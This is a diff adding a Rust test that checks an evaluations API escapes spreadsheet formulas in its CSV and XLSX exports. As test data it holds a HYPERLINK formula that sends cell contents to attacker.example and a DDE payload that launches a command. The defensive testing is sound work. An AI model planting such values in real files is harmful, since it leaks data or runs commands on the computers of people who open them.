@@ -236,3 +236,27 @@ async fn bad_export_parameters_are_400_naming_the_parameter() {
     reply.problem(400, "invalid_query");
     assert_eq!(reply.error_fields(), ["cursor"]);
 }
+
+#[tokio::test]
+async fn text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text() {
+    let app = spawn_app().await;
+    let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"点击\")";
+    let mut record = minimal("430482104", 2022, formula);
+    record["expenditure"]["total"] = json!("12.50");
+    app.create(&record).await;
+    app.create(&minimal("430482104", 2023, "@SUM(1+1)*cmd|' /C calc'!A0")).await;
+
+    let rows = download(&app, "/api/v1/evaluations?format=csv&sort=fiscal_year", None).await.csv();
+    assert_eq!(rows[1][5], format!("'{formula}"), "the unit is text with a leading apostrophe");
+    assert_eq!(rows[1][10], "12.50", "amounts stay numbers");
+    assert_eq!(rows[2][5], "'@SUM(1+1)*cmd|' /C calc'!A0");
+
+    let reply = download(&app, "/api/v1/evaluations?format=xlsx&sort=fiscal_year", None).await;
+    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(reply.body)).expect("an XLSX workbook");
+    let sheet = workbook.worksheet_range("evaluations").unwrap();
+    let rows: Vec<&[Data]> = sheet.rows().collect();
+    assert_eq!(rows[1][5], Data::String(format!("'{formula}")));
+    assert_eq!(rows[1][10], Data::Float(12.5));
+    // JSON keeps the text as stored.
+    assert_eq!(json_items(&app, "sort=fiscal_year").await[0]["unit"], formula);
+}
